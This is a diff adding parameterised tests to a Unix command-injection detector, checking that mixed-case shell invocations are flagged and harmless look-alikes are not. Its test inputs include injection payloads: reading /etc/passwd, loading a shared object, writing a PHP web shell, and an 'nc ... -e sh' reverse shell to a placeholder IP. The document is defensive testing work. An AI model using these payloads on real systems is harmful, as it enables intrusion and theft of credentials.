@@ -344,6 +344,18 @@ class UnixCommandDetectorTest {
     }
 
     @ParameterizedTest
+    @ValueSource(strings = {"Sh -c whoami", "'TiMe Sh -c whoami", "Sh -c 'cat /etc/passwd'"})
+    void blocksShellGivenCommandStringWhateverTheCaseOfItsName(String value) {
+        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Sh -c hello", "Fish -c salmon", "Rc -c circuit"})
+    void allowsCapitalisedShellNameWithoutKnownCommand(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
     @ValueSource(strings = {"1;.sh whoami", "1;.shell whoami", "1; .system id", ";\n.databases", "x;\n.import /etc/passwd t",
         "\";\\n. shell nc 10.10.10.1 6666 -e sh\\n", "1;.\\\"shell whoami", "1;.\\'shell whoami", "1\n.load /tmp/evil.so",
         "');\r\n.output /var/www/shell.php"})
